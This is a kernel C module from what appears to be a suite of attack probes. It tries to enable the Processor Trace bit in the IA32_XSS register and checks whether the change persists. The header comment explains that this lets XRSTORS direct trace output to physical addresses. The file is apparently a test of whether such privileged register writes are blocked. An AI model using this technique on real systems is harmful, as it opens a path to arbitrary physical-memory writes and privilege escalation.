/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/* Has XRSTORS load the registers of Processor Trace, whose output goes to physical addresses. */
#include "attack.h"

#include <asm/cpufeature.h>
#include <asm/msr.h>
#include <asm/processor.h>

#define XSTATE_LEAF 0xd
#define XSS_PT (1ull << 8)

static u64 seen;
static bool changed;

static int attempt(void)
{
	u64 before;

	if (!rdmsrl_safe(MSR_IA32_XSS, &before))
		changed = attack_msr_keeps(MSR_IA32_XSS, before | XSS_PT, &seen);
	return 0;
}

static bool effect(void)
{
	attack_detail("IA32_XSS read 0x%llx", seen);
	return changed;
}

static bool possible(void)
{
	u32 eax, ebx, ecx, edx;

	cpuid_count(XSTATE_LEAF, 1, &eax, &ebx, &ecx, &edx);
	return boot_cpu_has(X86_FEATURE_XSAVES) && ecx & XSS_PT;
}

static const struct attack xss_pt = {"xss_pt", "memory-msr", possible, attempt, effect, NULL};
ATTACK_MODULE(xss_pt);
